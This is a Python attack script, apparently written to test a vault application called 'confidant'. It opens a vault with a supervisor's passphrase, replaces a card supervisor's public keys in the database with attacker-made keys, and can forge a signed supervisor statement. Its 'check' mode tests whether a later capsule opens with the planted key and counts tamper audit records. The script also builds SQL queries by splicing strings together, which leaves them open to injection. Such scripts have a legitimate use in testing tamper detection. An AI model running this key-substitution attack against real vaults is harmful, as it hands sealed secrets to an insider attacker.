#!/usr/bin/python3
# swap-card-keys.py: a supervisor known by card is a users row anyone with
# the database key can edit. Written from docs/FORMATS.md with only the
# attacker's own passphrase (a supervisor of the vault) and the vault's
# files: the attacker puts keys of their own in the card supervisor's users
# row, and writes a "Card supervisor statement" for them signed with their
# own Ed25519 key, hoping the next capsule is sealed to them.
#
#   swap-card-keys.py plant-row VAULT USER PASSPHRASE-FILE CARD-NAME KEY-OUT
#       swaps the keys in the users row only
#   swap-card-keys.py plant VAULT USER PASSPHRASE-FILE CARD-NAME KEY-OUT
#       also replaces the statement with one the attacker signed
#   swap-card-keys.py check VAULT USER PASSPHRASE-FILE KEY-IN CAPSULE-FILE
#
# "check" prints whether the capsule's sealed key opens with the planted
# key, and how many vault.tamper records name the card supervisor.
import importlib.util
import os
import struct
import sys

import nacl.bindings as sodium
import nacl.exceptions
from gi.repository import GLib

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location(
    "confidant_read", os.path.join(here, "..", "reader", "confidant-read.py"))
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)


def open_as(vault, user_name, passphrase_file):
    with open(os.path.join(vault, "keyring"), "rb") as f:
        keyring = reader.read_keyring(f.read())
    me = next(u for u in keyring["users"] if u["name"] == user_name)
    with open(passphrase_file, encoding="utf-8") as f:
        passphrase = f.read().split("\n")[0]
    secrets = reader.unwrap_with_passphrase(keyring, me, passphrase)
    db = reader.Database(os.path.join(vault, "vault.db"), secrets["db_key"])
    return keyring, me, secrets, db


def wire(value):
    # Normal form, little-endian (docs/FORMATS.md, "GVariant bodies").
    if sys.byteorder == "big":
        value = value.byteswap()
    return bytes(value.get_data_as_bytes().get_data())


def forged_statement(vault_id, card_id, name, box_pk, sign_pk, signer_id, sign_sk):
    body = wire(GLib.Variant("(sssayaysxs)", (vault_id, card_id, name, box_pk, sign_pk,
                                               "0000 0000 0000 0000 0000 0000 0000 0000",
                                               1700000000, signer_id)))
    message = reader.lp("confidant/card-supervisor/v1", vault_id, signer_id, body)
    signature = sodium.crypto_sign(message, sign_sk)[:64]
    return wire(GLib.Variant("(sayay)", (signer_id, body, signature)))


def plant(keyring, me, secrets, db, card_name, key_file, with_statement):
    card_id = db.rows("SELECT u.id FROM users u JOIN supervisor_cards c ON c.user_id = u.id "
                      "WHERE u.name = '%s'" % card_name)[0][0]
    box_pk, box_sk = sodium.crypto_box_keypair()
    sign_pk, sign_sk = sodium.crypto_sign_keypair()
    with open(key_file, "wb") as f:
        f.write(box_pk + box_sk)
    db.rows("UPDATE users SET box_pk = x'%s', sign_pk = x'%s' WHERE id = '%s'"
            % (box_pk.hex(), sign_pk.hex(), card_id))
    print("planted: the card supervisor's users row now holds the attacker's keys")
    if with_statement:
        statement = forged_statement(keyring["vault_id"], card_id, card_name, box_pk, sign_pk,
                                     me["id"], secrets["sign_sk"])
        db.rows("UPDATE supervisor_card_statements SET statement = x'%s' WHERE user_id = '%s'"
                % (statement.hex(), card_id))
        print("planted: the card supervisor's statement is now signed by the attacker")
    print("card supervisor: %s" % card_id)
    return 0


def check(db, key_file, capsule_file):
    with open(key_file, "rb") as f:
        planted = f.read()
    with open(capsule_file, "rb") as f:
        data = f.read()
    (length,) = struct.unpack(">I", data[12:16])
    body = reader.variant("(ssssssayaysayxxayay)", data[16:16 + length])
    card_id = body.get_child_value(8).get_string()
    sealed = reader.ay(body.get_child_value(12).unpack())
    try:
        sodium.crypto_box_seal_open(sealed, planted[:32], planted[32:])
        print("opened: the capsule was sealed to the planted key")
    except nacl.exceptions.CryptoError:
        print("refused: the planted key does not open the capsule")
    for kind in ("user", "card-supervisor"):
        tamper = db.rows("SELECT count(*) FROM audit_log WHERE action = 'vault.tamper' "
                         "AND object_kind = '%s' AND object_id = '%s'" % (kind, card_id))
        print("vault.tamper records naming the card supervisor (%s): %s" % (kind, tamper[0][0]))
    return 0


def main(argv):
    command, vault, user_name, passphrase_file = argv[1:5]
    keyring, me, secrets, db = open_as(vault, user_name, passphrase_file)
    if command in ("plant", "plant-row"):
        return plant(keyring, me, secrets, db, argv[5], argv[6], command == "plant")
    return check(db, argv[5], argv[6])


if __name__ == "__main__":
    sys.exit(main(sys.argv))
